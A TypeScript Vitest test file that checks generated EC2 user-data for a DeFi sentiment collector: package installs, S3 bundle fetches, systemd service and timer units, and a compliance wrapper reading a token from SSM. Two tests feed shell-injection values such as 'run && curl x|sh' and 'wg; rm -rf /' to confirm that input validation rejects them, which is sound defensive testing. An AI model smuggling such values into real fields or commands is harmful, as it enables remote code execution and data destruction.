import { describe, expect, it } from "vitest";
import { collectorUserData, complianceUnits, complianceWrapper } from "./collector-user-data.ts";
import { userDataArgs } from "../../test/fixtures/user-data-args.ts";

const args = userDataArgs;

describe("collector user data", () => {
  it("installs Node 22, fetches the bundle and runs it as a restarting systemd service with its environment", () => {
    const ud = collectorUserData(args);
    expect(ud.startsWith("#!/bin/bash\n")).toBe(true);
    expect(ud).toContain("dnf install -y nodejs22 unzip");
    expect(ud).toContain("aws --region eu-west-1 s3 cp s3://lake-b1/artifacts/collector/collector.zip /tmp/collector.zip");
    expect(ud).toMatch(/FIREHOSE_STREAM_NAME=defi-sentiment-dev-posts\nAWS_REGION=eu-west-1\nX_BEARER_TOKEN_PARAMETER=\/defi-sentiment-dev\/x-bearer-token\nLAKE_BUCKET=lake-b1\n/);
    // The AWS lake stream deletion notices are applied to (collector README).
    expect(ud).toContain("cat > /etc/defi-sentiment/collector.env <<'ENV'\n");
    const collectorEnv = ud.split("cat > /etc/defi-sentiment/collector.env <<'ENV'\n")[1]!.split("\nENV\n")[0]!.split("\n");
    expect(collectorEnv).toEqual(expect.arrayContaining(["LAKE_BUCKET=lake-b1", "ATHENA_DATABASE=defi_sentiment_dev", "ATHENA_WORKGROUP=defi-sentiment-dev"]));
    expect(ud).toContain("ExecStart=/usr/bin/node-22 /opt/collector/current/index.mjs run\n");
    expect(ud).toContain("Restart=always");
    expect(ud).toContain("User=collector");
    expect(ud).toContain("systemctl enable --now defi-sentiment-collector.service");
  });

  it("changes when the bundle version changes, so a new bundle means a fresh host", () => {
    expect(collectorUserData(args)).not.toBe(collectorUserData({ ...args, bundleVersion: "v-2" }));
  });

  it("refuses a value that would need shell quoting, naming the field", () => {
    expect(() => collectorUserData({ ...args, streamName: "posts; curl evil" })).toThrow(/FIREHOSE_STREAM_NAME has characters not allowed/);
    expect(() => collectorUserData({ ...args, entry: "$(id).mjs" })).toThrow(/entry has characters not allowed/);
    expect(() => collectorUserData({ ...args, command: "run && curl x|sh" })).toThrow(/command has characters not allowed/);
  });

  it("runs the AWS compliance check daily from a systemd timer, catching up a missed run at boot", () => {
    const { service, timer } = complianceUnits();
    expect(timer).toContain("OnCalendar=*-*-* 03:00:00 UTC\n");
    expect(timer).toContain("Persistent=true\n");
    expect(timer).toContain("WantedBy=timers.target");
    expect(service).toContain("Type=oneshot\n");
    expect(service).toContain("ExecStart=/opt/defi-sentiment-lifecycle/run-compliance.sh\n");
    expect(service).toContain("EnvironmentFile=/etc/defi-sentiment/lifecycle.env\n");
    const ud = collectorUserData(args);
    expect(ud).toContain("aws --region eu-west-1 s3 cp s3://lake-b1/artifacts/lifecycle/lifecycle.zip /tmp/lifecycle.zip");
    expect(ud).toContain(`cat > /etc/systemd/system/defi-sentiment-compliance.timer <<'UNIT'\n${timer}UNIT\n`);
    expect(ud).toContain(`cat > /etc/systemd/system/defi-sentiment-compliance.service <<'UNIT'\n${service}UNIT\n`);
    expect(ud).toMatch(/RESCORE_STREAM=defi-sentiment-dev-rescore\n/);
    expect(ud.trimEnd().endsWith("systemctl enable --now defi-sentiment-compliance.timer")).toBe(true);
  });

  it("passes the stack's bucket, database and workgroup to the check and takes the token from the SecureString at run time", () => {
    const w = complianceWrapper(args);
    expect(w).toContain(
      'X_BEARER_TOKEN="$(aws --region eu-west-1 ssm get-parameter --with-decryption --name /defi-sentiment-dev/x-bearer-token --query Parameter.Value --output text)"\nexport X_BEARER_TOKEN\n',
    );
    expect(w).toContain(
      "\n/usr/bin/node-22 /opt/defi-sentiment-lifecycle/current/compliance.mjs --aws --bucket lake-b1 --database defi_sentiment_dev --workgroup defi-sentiment-dev --since 7d\n",
    );
    expect(w).toContain(
      "\naws --region eu-west-1 cloudwatch put-metric-data --namespace defi-sentiment-dev/lifecycle --metric-name ComplianceCheckSucceeded --value 1 --unit Count \\\n",
    );
    expect(collectorUserData(args)).toContain(`<<'SH'\n${w}SH\n`);
  });

  it("refuses a lifecycle value that would need shell quoting", () => {
    expect(() => collectorUserData({ ...args, lifecycle: { ...args.lifecycle, workgroupName: "wg; rm -rf /" } })).toThrow(/ATHENA_WORKGROUP has characters not allowed/);
    expect(() => complianceWrapper({ ...args, lifecycle: { ...args.lifecycle, metricNamespace: "ns $(id)" } })).toThrow(/metricNamespace has characters not allowed/);
  });
});
